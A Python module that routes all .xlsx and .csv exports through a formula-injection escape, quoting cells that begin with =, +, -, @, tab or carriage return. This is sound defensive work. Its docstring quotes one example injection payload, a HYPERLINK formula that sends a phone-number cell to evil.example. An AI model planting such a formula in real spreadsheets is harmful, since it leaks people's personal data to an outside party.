"""Writing spreadsheets (.xlsx and .csv) that are safe to open: every writer goes through here.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as
a formula by Excel, WPS and LibreOffice (CSV / formula injection): an occupation typed as
``=HYPERLINK("http://evil.example/?"&F2,"点此")`` would send the next cell — a phone number —
to someone else when the export is opened. Following the OWASP guidance, such text is written
with a leading single quote, so it is shown, never run. Numbers, dates and empty cells are
written as they are (a negative amount stays a number).

``core/tests/test_spreadsheets.py`` fails when code elsewhere creates a workbook or a CSV writer of
its own.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.utils import get_column_letter

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def escape(value):
    """The value to write in a cell: text that a spreadsheet would run is quoted, the rest
    is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def escape_row(values: Iterable) -> list:
    return [escape(value) for value in values]


class Sheet:
    """One worksheet that takes rows only through ``escape``."""

    def __init__(self, sheet):
        self._sheet = sheet

    def append(self, values: Iterable) -> None:
        self._sheet.append(escape_row(values))

    def column_width(self, column: int, width: float) -> None:
        """Width of a column (1 = the first), in characters; before the first row."""
        self._sheet.column_dimensions[get_column_letter(column)].width = width

    def text_column(self, column: int, rows: range) -> None:
        """Format these cells of a column as text (what the user types there stays text).
        Not for a streamed (``streamed=True``) workbook."""
        for row in rows:
            self._sheet.cell(row=row, column=column).number_format = "@"


class XlsxWriter:
    """An .xlsx built sheet by sheet. ``streamed=True`` keeps memory flat for long exports
    (openpyxl's write-only mode: rows are written in order, once)."""

    def __init__(self, *, streamed: bool = True):
        self._book = Workbook(write_only=streamed)
        self._first = None if streamed else self._book.active

    def sheet(self, title: str) -> Sheet:
        title = str(title)[:31] or "data"  # Excel's limit on sheet names
        if self._first is not None:
            sheet, self._first = self._first, None
            sheet.title = title
            return Sheet(sheet)
        return Sheet(self._book.create_sheet(title))

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


class CsvWriter:
    """``csv.writer`` whose rows go through ``escape``."""

    def __init__(self, stream: io.TextIOBase | None = None, **options):
        self.stream = stream if stream is not None else io.StringIO()
        self._writer = csv.writer(self.stream, **options)

    def writerow(self, values: Iterable) -> None:
        self._writer.writerow(escape_row(values))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)
